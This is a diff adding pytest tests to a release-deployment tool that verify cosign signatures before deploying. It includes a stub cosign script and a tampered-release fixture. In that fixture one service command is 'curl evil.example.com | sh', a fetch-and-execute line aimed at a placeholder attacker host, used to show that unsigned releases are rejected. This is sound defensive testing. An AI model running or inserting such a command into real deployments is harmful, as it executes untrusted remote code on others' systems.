@@ -9,7 +9,7 @@ import pytest
 
 from plugin import values
 from seaway.project import release, release_lock
-from seaway.release import hold, record
+from seaway.release import hold, record, signatures
 from tests.component import programs, recorder
 from tests.support.diagnostics import catch, summarize
 
@@ -101,6 +101,70 @@ def test_a_pinned_release_is_deployed_by_digest_with_the_current_overlay(
     assert resource.inputs["release"].startswith(f"{pinned.id}-")
     assert resource.inputs["provenance"] == {"revision": "4b825dc"}
     assert programs.decode_record(recording).build_release(pinned.provenance, RECORDED).id == pinned.id
+
+
+TRUST = {**PROD, "trust": '{"keys": ["cosign.pub"]}'}
+
+
+def install_cosign(folder: Path, monkeypatch: pytest.MonkeyPatch, refused: str = "--never") -> None:
+    """A program that fails where an argument contains a text."""
+    (folder / "cosign.pub").write_text("-----BEGIN PUBLIC KEY-----\n")
+    (folder / "bin").mkdir()
+    (folder / "bin" / "cosign").write_text(f'#!/bin/sh\ncase "$*" in *{refused}*) echo no >&2; exit 1;; esac\n')
+    (folder / "bin" / "cosign").chmod(0o755)
+    monkeypatch.setenv("PATH", str(folder / "bin"))
+
+
+@pytest.mark.parametrize(
+    ("refused", "codes"),
+    [
+        ("--never", []),
+        ("verify-blob", ["not-signed"]),
+        ("other.example.com/shop/web", ["not-signed"]),
+        (None, ["not-signed"]),
+    ],
+    ids=["signed", "the record", "an image", "no signature"],
+)
+def test_a_stack_with_trust_deploys_only_what_is_signed(
+    pinned: release.Release,
+    run_prod: programs.Run,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    *,
+    refused: str | None,
+    codes: list[str],
+) -> None:
+    install_cosign(tmp_path, monkeypatch, refused or "--never")
+    if refused is not None:
+        signatures.get_path(tmp_path, pinned.id).write_text("MEUC\n")
+    if not codes:
+        assert run_prod(config=TRUST).list_resources("Deployment")
+        return
+    assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == codes
+    # A preview contacts no registry: it verifies the record.
+    if refused != "other.example.com/shop/web":
+        assert [error.code for error in catch(lambda: run_prod(config=TRUST, preview=True))] == codes
+    else:
+        assert run_prod(config=TRUST, preview=True).list_resources("Deployment")
+
+
+def test_a_fallback_of_a_stack_with_trust_is_signed_too(
+    pinned: release.Release, run_prod: programs.Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A branch holds the release back, and names a record with another base instead."""
+    recording = run_prod(config=PROD)
+    good = programs.decode_record(recording)
+    environment = good.environment
+    web = dataclasses.replace(environment.base.services[0], command=("sh", "-c", "curl evil.example.com | sh"))
+    base = dataclasses.replace(environment.base, services=(web, *environment.base.services[1:]))
+    evil = dataclasses.replace(good, environment=dataclasses.replace(environment, base=base))
+    install_cosign(tmp_path, monkeypatch)
+    signatures.get_path(tmp_path, pinned.id).write_text("MEUC\n")
+    fallback = release_lock.Fallback(
+        release=evil.id, held=programs.get_release_id(recording), because="web: crash-loop", since=RECORDED
+    )
+    hold.write_fallback(tmp_path, "prod", fallback, evil, evil.render_objects())
+    assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]
 
 
 def test_another_overlay_is_another_record_of_the_same_release(pinned: release.Release, run_prod: programs.Run) -> None:
